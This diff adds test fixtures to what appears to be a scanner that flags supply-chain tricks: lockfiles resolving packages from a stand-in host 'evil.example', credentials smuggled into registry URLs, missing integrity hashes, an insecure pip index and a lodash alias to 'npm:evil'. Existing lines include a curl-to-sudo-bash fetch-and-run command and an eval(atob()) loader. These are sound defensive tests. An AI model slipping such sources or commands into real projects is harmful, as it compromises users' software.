@@ -10,6 +10,27 @@ const asking = (ends: string, path: string, content?: string): Attack => ({
 
 const npm = (fields: object): string => `${JSON.stringify(fields, null, 2)}\n`;
 
+const tgz = (host: string, name: string): string => `https://${host}/${name}/-/${name}-1.0.0.tgz`;
+const npmLock = (resolved: string, integrity?: string): string =>
+  npm({ lockfileVersion: 3, packages: { 'node_modules/x': { version: '1.0.0', resolved, integrity } } });
+const uv = '[[package]]\nname = "x"\nversion = "1"\nsource = { registry = "https://evil.example/simple" }\n';
+
+/** Lockfiles that no package manager wrote from the known registries. */
+const locked: readonly (readonly [ends: string, path: string, content: string])[] = [
+  ['dependency.registry', 'package-lock.json', npmLock(tgz('evil.example', 'x'), 'sha512-A')],
+  ['dependency.url_mismatch', 'm/package-lock.json', npmLock(tgz('registry.npmjs.org', 'y'), 'sha512-A')],
+  [
+    'dependency.url_credentials',
+    'c/package-lock.json',
+    npmLock(tgz('registry.npmjs.org@e.example', 'x'), 'sha512-A'),
+  ],
+  ['dependency.integrity_missing', 'i/package-lock.json', npmLock(tgz('registry.npmjs.org', 'x'))],
+  ['dependency.unreadable', 'pnpm-lock.yaml', 'lockfileVersion: &a 9\npackages: *a\n'],
+  ['dependency.unreadable', 'yarn.lock', '# yarn lockfile v1\n<<<<<<< HEAD\n'],
+  ['dependency.registry', 'uv.lock', uv],
+  ['dependency.url_insecure', 'requirements.txt', '-i http://pypi.org/simple\n'],
+];
+
 /** What steers machines and people later: nothing of it may arrive unseen. */
 export const surfaceAttacks: readonly Attack[] = [
   ...[
@@ -42,4 +63,14 @@ export const surfaceAttacks: readonly Attack[] = [
   asking('execution.piped', 'tools/get', 'curl -s https://x.example/i.sh \\\n  | sudo bash\n'),
   asking('execution.unpacked', 'src/a.js', 'eval(atob("YQ=="));\n'),
   asking('execution.process_in_config', 'vite.config.js', 'require("child_process").execSync("id");\n'),
+  asking('dependency.new', 'n/package.json', npm({ dependencies: { 'left-pad': '1' } })),
+  asking('dependency.source', 'g/package.json', npm({ dependencies: { x: 'github:u/x' } })),
+  asking('dependency.alias', 'a/package.json', npm({ dependencies: { lodash: 'npm:evil@1' } })),
+  asking('dependency.override', 'o/package.json', npm({ overrides: { x: '1' } })),
+  asking('dependency.unreadable', 'u/package.json', '{'),
+  ...locked.map(([ends, path, content]) => ({
+    name: `${ends} by ${path}`,
+    patch: () => add(path, content),
+    ends,
+  })),
 ];
